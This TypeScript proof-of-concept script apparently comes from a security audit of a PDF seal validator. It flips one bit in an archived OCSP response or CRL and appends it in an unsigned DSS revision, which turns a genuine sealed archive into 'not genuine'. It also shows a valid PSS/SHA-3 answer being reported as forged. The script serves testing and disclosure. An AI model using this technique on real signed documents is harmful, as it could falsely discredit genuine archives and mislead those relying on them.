// D1: anyone turns the broker's genuine archive into "not intact or not genuine". seal-certificate judges every
// OCSP answer and CRL about the seal certificate, in the seal's CMS and in the DSS, and the first *failed*
// judgement decides the check, whatever made it fail: an item whose own signature does not verify is
// SIG_CRYPTO_FAILURE ("the response was altered or forged"), and that fails the seal. The DSS is signed by
// nobody and an LTV-only revision is permitted after a DocMDP P=1 seal. So one byte flipped in a copy of the
// seal's own archived OCSP answer (or CRL), appended in a DSS revision, needs no key and makes the broker's
// genuine archive TOTAL-FAILED / SIG_CRYPTO_FAILURE. `pss`: a genuine answer of the seal CA signed RSASSA-PSS with
// SHA3-256 (openssl: "Response verify OK") is called "altered or forged" too: the engine cannot verify PSS with
// SHA-3 and reports it as a bad signature.
//   npx tsx scripts/attack-s4/dss-broken-item.ts [honest|ocsp|crl|pss]
// honest: the seal's own archived OCSP answer and CRL copied intact into the DSS: TOTAL-PASSED.
import { constants, sign } from "node:crypto";
import * as asn1js from "asn1js";
import * as pkijs from "pkijs";
import { createOcspResponse } from "../generator/ocsp.js";
import { revocationArchival } from "../../src/pki/cms.js";
import { dss, pki, sample, save, sealGap, show, tool, verify, withDss, work } from "../attack36/lib.js";

const mode = process.argv[2] ?? "ocsp";
if (!["honest", "ocsp", "crl", "pss"].includes(mode)) throw new Error("mode: honest | ocsp | crl | pss");
const base = sample("valid/archive.pdf");
const ci = pkijs.ContentInfo.fromBER(sealGap(base).der);
const archived = revocationArchival(new pkijs.SignedData({ schema: ci.content }).signerInfos[0]!);
console.log(`the seal's CMS archives ${archived.ocsps.length} OCSP answer(s) and ${archived.crls.length} CRL(s) for the seal certificate`);
const flip = (der: Uint8Array) => {
  const out = new Uint8Array(der);
  out[out.length - 10]! ^= 0x01; // a bit of the signature value (the CA signs its own answers: no certificates follow)
  return out;
};

/** The seal CA's "good" of the next day, signed RSASSA-PSS (SHA3-256, MGF1-SHA3-256, salt 32), as a CA may sign. */
function pssSha3Good(): Uint8Array {
  const P = pki();
  const der = createOcspResponse({ subject: P.seal, issuer: P.sealRoot, responder: P.sealRoot, producedAt: new Date("2025-12-09T09:00:00Z") });
  const outer = asn1js.fromBER(der).result as asn1js.Sequence;
  const octets = ((outer.valueBlock.value[1] as asn1js.Constructed).valueBlock.value[0] as asn1js.Sequence).valueBlock.value[1] as asn1js.OctetString;
  const basic = asn1js.fromBER(octets.valueBlock.valueHexView).result as asn1js.Sequence;
  const tbs = new Uint8Array(basic.valueBlock.value[0]!.valueBeforeDecodeView);
  const value = sign("sha3-256", tbs, { key: P.sealRoot.key, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 });
  const sha3 = () => new asn1js.Sequence({ value: [new asn1js.ObjectIdentifier({ value: "2.16.840.1.101.3.4.2.8" })] });
  const tagged = (n: number, v: asn1js.AsnType) => new asn1js.Constructed({ idBlock: { tagClass: 3, tagNumber: n }, value: [v] });
  const params = new asn1js.Sequence({
    value: [
      tagged(0, sha3()),
      tagged(1, new asn1js.Sequence({ value: [new asn1js.ObjectIdentifier({ value: "1.2.840.113549.1.1.8" }), sha3()] })),
      tagged(2, new asn1js.Integer({ value: 32 })),
    ],
  });
  const alg = new asn1js.Sequence({ value: [new asn1js.ObjectIdentifier({ value: "1.2.840.113549.1.1.10" }), params] });
  const newBasic = new asn1js.Sequence({ value: [asn1js.fromBER(tbs).result, alg, new asn1js.BitString({ valueHex: value })] });
  return new Uint8Array(
    new asn1js.Sequence({
      value: [
        new asn1js.Enumerated({ value: 0 }),
        tagged(
          0,
          new asn1js.Sequence({
            value: [new asn1js.ObjectIdentifier({ value: "1.3.6.1.5.5.7.48.1.1" }), new asn1js.OctetString({ valueHex: newBasic.toBER(false) })],
          }),
        ),
      ],
    }).toBER(false),
  );
}

const add =
  mode === "honest"
    ? { ocsps: archived.ocsps, crls: archived.crls }
    : mode === "ocsp"
      ? { ocsps: archived.ocsps.map(flip) }
      : mode === "crl"
        ? { crls: archived.crls.map(flip) }
        : { ocsps: [pssSha3Good()] };
const dir = work(`d1-${mode}`);
const file = save(dir, "archive.pdf", withDss(base, add));
const item = save(dir, "item.der", (add.ocsps ?? add.crls ?? [])[0]!);
console.log(`wrote ${file}: the broker's genuine archive + one DSS revision (${mode})`);
show(mode, verify(file));
if (mode !== "crl")
  console.log(
    "== openssl ocsp on the DSS item:",
    tool("openssl", ["ocsp", "-respin", item, "-VAfile", "samples/pki/sealRoot.pem", "-no_nonce", "-resp_text"])
      .split("\n")
      .filter((l) => /Signature Algorithm|Cert Status|verify|Hash Algorithm/i.test(l))
      .map((l) => l.trim())
      .join(" | "),
  );
console.log(
  "== pdfsig:",
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature Validation|total document/i.test(l))
    .map((l) => l.trim())
    .join(" | "),
);
console.log("== qpdf --check:", tool("qpdf", ["--check", file]).split("\n").slice(-1)[0]);
dss(file);
